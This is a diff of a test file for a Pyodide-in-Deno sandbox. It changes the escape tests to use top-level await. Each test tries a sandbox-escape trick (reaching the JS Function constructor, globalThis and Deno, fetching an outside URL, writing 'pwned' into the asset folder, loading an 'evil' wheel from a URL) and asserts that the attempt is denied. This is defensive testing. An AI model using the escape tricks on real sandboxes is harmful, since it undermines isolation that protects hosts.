@@ -15,7 +15,7 @@ from pathlib import Path
 from throwaway.sandbox.assets import find_assets
 
 #: Gives sandboxed Python the JS realm's `Function` constructor, hence `globalThis` and `Deno`.
-REALM = "from pyodide.ffi import to_js, run_sync\nF = to_js({}).constructor.constructor\n"
+REALM = "from pyodide.ffi import to_js\nF = to_js({}).constructor.constructor\n"
 
 
 def js(body: str) -> str:
@@ -24,8 +24,8 @@ def js(body: str) -> str:
 
 
 def js_async(body: str) -> str:
-    """Sandboxed code that runs a JS function body and waits for the promise it returns."""
-    return REALM + f"run_sync(F({body!r})())"
+    """Sandboxed code that runs a JS function body and awaits the promise it returns."""
+    return REALM + f"await F({body!r})()"
 
 
 def assert_denied(result, what: str) -> None:
@@ -148,10 +148,7 @@ async def test_js_realm_dns_lookup_is_denied(sandbox):
 
 
 async def test_pyfetch_fails(sandbox):
-    r = await sandbox.run(
-        "from pyodide.ffi import run_sync\nfrom pyodide.http import pyfetch\n"
-        "run_sync(pyfetch('http://example.com/'))"
-    )
+    r = await sandbox.run("from pyodide.http import pyfetch\nawait pyfetch('http://example.com/')")
     assert r.error is not None
     assert "net access" in r.error.message
 
@@ -206,8 +203,8 @@ async def test_write_into_the_asset_folder_mounted_with_nodefs_fails(fresh_sandb
     )
     assert mounted.ok, mounted.error  # reading the public assets is allowed
     r = await sb.run("open('/assets/packages/evil.whl', 'wb').write(b'pwned')")
-    assert r.error is not None
-    assert "NotCapable" in r.error.message or "write access" in r.error.message
+    assert r.error is not None  # Deno refuses the write; Pyodide may not survive the refusal
+    assert r.error.type in ("PermissionError", "OSError", "SandboxCrashed")
     assert asset_files() == before
     assert (await sb.run("'still here'")).result == "'still here'"
 
@@ -226,9 +223,7 @@ async def test_js_module_env_is_denied(sandbox):
 
 
 async def test_js_module_fetch_is_denied(sandbox):
-    r = await sandbox.run(
-        "import js\nfrom pyodide.ffi import run_sync\nrun_sync(js.fetch('http://example.com/'))"
-    )
+    r = await sandbox.run("import js\nawait js.fetch('http://example.com/')")
     assert_denied(r, "js.fetch")
 
 
@@ -250,8 +245,8 @@ async def test_pyodide_js_cannot_mount_host_folders(sandbox):
 async def test_pyodide_js_load_package_from_a_url_loads_nothing(sandbox):
     before = asset_files()
     r = await sandbox.run(
-        "import pyodide_js\nfrom pyodide.ffi import run_sync\n"
-        "len(run_sync(pyodide_js.loadPackage('https://example.com/evil-1.0-py3-none-any.whl')))"
+        "import pyodide_js\n"
+        "len(await pyodide_js.loadPackage('https://example.com/evil-1.0-py3-none-any.whl'))"
     )
     assert r.result == "0"
     assert (await sandbox.run("import evil")).error.type == "ModuleNotFoundError"
@@ -260,10 +255,7 @@ async def test_pyodide_js_load_package_from_a_url_loads_nothing(sandbox):
 
 async def test_pyodide_js_load_package_missing_offline_is_not_downloaded(sandbox):
     before = asset_files()
-    r = await sandbox.run(
-        "import pyodide_js\nfrom pyodide.ffi import run_sync\n"
-        "len(run_sync(pyodide_js.loadPackage('regex')))"
-    )
+    r = await sandbox.run("import pyodide_js\nlen(await pyodide_js.loadPackage('regex'))")
     assert r.result == "0"
     assert (await sandbox.run("import regex")).error.type == "ModuleNotFoundError"
     assert asset_files() == before
